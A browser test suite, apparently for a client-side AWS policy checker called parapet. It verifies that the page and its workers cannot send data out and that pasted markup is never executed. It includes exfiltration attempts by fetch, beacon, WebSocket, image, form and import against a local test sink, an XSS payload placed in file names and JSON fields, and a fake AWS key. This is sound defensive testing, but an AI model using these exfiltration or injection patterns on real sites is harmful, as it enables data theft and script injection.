// Nothing leaves the page, and nothing that is pasted runs in it.
import { STAR, expect, test } from "./page.mjs";

const QUIET_MS = 1500;

test("no request after load, whatever is done", async ({ parapet, page }) => {
  await page.waitForTimeout(QUIET_MS);
  const before = parapet.requests.length;
  const fromPage = [];
  page.on("request", (request) => {
    if (!/^(blob|data):/.test(request.url())) fromPage.push(request.url());
  });
  await parapet.paste(STAR);
  await expect(parapet.rule("policy-action-star")).toHaveCount(1);
  await parapet.example("4 · Public bucket: policy, ACL, Block Public Access");
  await parapet.page.locator("button.apply").first().click();
  await parapet.drop([{ name: "a.json", text: STAR }]);
  await page.locator("button.theme").click();
  await page.waitForTimeout(QUIET_MS);
  expect(fromPage).toEqual([]);
  expect(parapet.requests.slice(before)).toEqual([]);
});

test("code in the page could not send anything out", async ({ parapet, page, sink }) => {
  const tried = await page.evaluate(async (address) => {
    const http = `http://${address}/`;
    const results = {};
    const attempt = async (name, run) => {
      try {
        results[name] = String(await run());
      } catch (error) {
        results[name] = `blocked: ${error.name}`;
      }
    };
    await attempt("fetch", () => fetch(http + "fetch", { mode: "no-cors" }));
    await attempt("xhr", () => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.onload = () => done("sent");
      request.onerror = () => fail(new Error("error"));
      request.open("GET", http + "xhr");
      request.send();
    }));
    await attempt("websocket", () => new Promise((done, fail) => {
      const socket = new WebSocket(`ws://${address}/ws`);
      socket.onopen = () => done("open");
      socket.onerror = () => fail(new Error("error"));
    }));
    await attempt("eventsource", () => new Promise((done, fail) => {
      const source = new EventSource(http + "events");
      source.onopen = () => done("open");
      source.onerror = () => fail(new Error("error"));
    }));
    await attempt("beacon", () => navigator.sendBeacon(http + "beacon", "secret"));
    await attempt("image", () => new Promise((done, fail) => {
      const image = new Image();
      image.onload = () => done("loaded");
      image.onerror = () => fail(new Error("error"));
      image.src = http + "image.png";
    }));
    await attempt("form", () => {
      const form = document.createElement("form");
      form.action = http + "form";
      form.method = "post";
      form.target = "x";
      document.body.append(form);
      form.submit();
      return "submitted";
    });
    await attempt("style", () => {
      document.body.insertAdjacentElement("beforeend", document.createElement("link"));
      const link = document.body.lastElementChild;
      link.rel = "stylesheet";
      link.href = http + "style.css";
      return "added";
    });
    await attempt("iframe", () => {
      const frame = document.createElement("iframe");
      frame.src = http + "frame";
      document.body.append(frame);
      return "added";
    });
    await attempt("prefetch", () => {
      const link = document.createElement("link");
      link.rel = "prefetch";
      link.href = http + "prefetch";
      document.head.append(link);
      return "added";
    });
    await attempt("import", () => import(http + "module.js"));
    results.webrtc = typeof RTCPeerConnection;
    return results;
  }, sink.address);
  await page.waitForTimeout(QUIET_MS);
  expect(sink.seen, JSON.stringify(tried)).toEqual([]);
  expect(tried.fetch).toContain("blocked");
  expect(tried.webrtc).toBe("undefined");
});

test("code in the worker could not send anything out", async ({ parapet, page, sink }) => {
  await parapet.paste(STAR);
  await expect(parapet.rule("policy-action-star")).toHaveCount(1);
  const workers = page.workers();
  expect(workers.length).toBeGreaterThan(0);
  for (const worker of workers) {
    const tried = await worker.evaluate(async (address) => {
      const results = {};
      try {
        await fetch(`http://${address}/worker`, { mode: "no-cors" });
        results.fetch = "sent";
      } catch {
        results.fetch = "blocked";
      }
      results.socket = await new Promise((done) => {
        try {
          const socket = new WebSocket(`ws://${address}/ws`);
          socket.onopen = () => done("open");
          socket.onerror = () => done("blocked");
        } catch {
          done("blocked");
        }
      });
      try {
        importScripts(`http://${address}/script.js`);
        results.script = "ran";
      } catch {
        results.script = "blocked";
      }
      return results;
    }, sink.address);
    expect(tried).toEqual({ fetch: "blocked", socket: "blocked", script: "blocked" });
  }
  expect(sink.seen).toEqual([]);
});

test("markup in every name shows as text", async ({ parapet, page, sink }) => {
  const evil = `<img src=http://${sink.address}/x onerror=globalThis.hit=1><script>globalThis.hit=1</script>`;
  const q = JSON.stringify(evil);
  const texts = [
    `{"Version": ${q}, "Id": ${q}, "Statement": [{"Sid": ${q}, "Effect": "Allow", "Action": ["*", ${q}], "Resource": ${q}, ${q}: 1}]}`,
    `{"UserDetailList": [{"UserName": ${q}, "Arn": ${q}, "UserPolicyList": [{"PolicyName": ${q}, "PolicyDocument": {"Statement": {"Sid": ${q}, "Effect": "Allow", "Action": "s3:*", "Resource": "*"}}}], "AttachedManagedPolicies": [{"PolicyName": ${q}, "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}]}]}`,
    `{"SecurityGroups": [{"GroupId": ${q}, "GroupName": ${q}, "Description": ${q}, "IpPermissions": [{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0", "Description": ${q}}, {"CidrIp": ${q}}]}]}]}`,
    `{"Grants": [{"Grantee": {"Type": "Group", "URI": "http://acs.amazonaws.com/groups/global/AllUsers", "DisplayName": ${q}}, "Permission": ${q}}], ${q}: {"a": ${q}}}`,
    `{"WebACL": {"Name": ${q}, "DefaultAction": {"Allow": {}}, "Rules": [{"Name": ${q}, "Priority": 0, "Statement": {${q}: {}}, "Action": {${q}: {}}}]}}`,
    `$ aws s3api get-bucket-acl --bucket '${evil}'\nAn error occurred (${evil}) when calling the ${evil} operation: ${evil}\n${evil}`,
  ];
  for (const [i, text] of texts.entries()) {
    await parapet.drop([{ name: `${evil}${i}.json`, text }]);
    await parapet.settled();
    for (const head of await page.locator("li.card button.head").all()) await head.click();
    // The editor puts empty images beside its widgets; they are in its shadow root.
    expect(await page.evaluate(() => document.querySelectorAll("img").length), text).toBe(0);
    const inEditor = page.locator("parapet-editor img:not(.cm-widgetBuffer)");
    expect(await inEditor.count(), text).toBe(0);
    expect(await page.locator("body script").count(), text).toBe(0);
  }
  await expect(page.locator(".results")).toContainText("<img src=");
  expect(await page.evaluate(() => globalThis.hit)).toBeUndefined();
  expect(sink.seen).toEqual([]);
  await parapet.shot("markup-as-text");
});

test("a secret is masked wherever it is shown", async ({ parapet, page }) => {
  const secret = ["q7Zt0vXc", "9LmR+2pK", "sWnE4uYh", "Jd8aBf6g", "To1iHx3N"].join("");
  const id = ["AKIA", "Q3EGPARAPET2DEMO"].join("");
  await parapet.paste(`aws_access_key_id = ${id}\naws_secret_access_key = ${secret}\n`);
  const card = parapet.rule("secrets-access-key");
  await expect(card).toHaveCount(1);
  await card.locator("button.head").click();
  const shown = await page.locator(".results").innerText();
  expect(shown).not.toContain(secret);
  expect(shown).not.toContain(id);
  await card.locator("button.apply").click();
  await expect(card).toHaveCount(0);
  expect(await parapet.text()).not.toContain(secret);
});
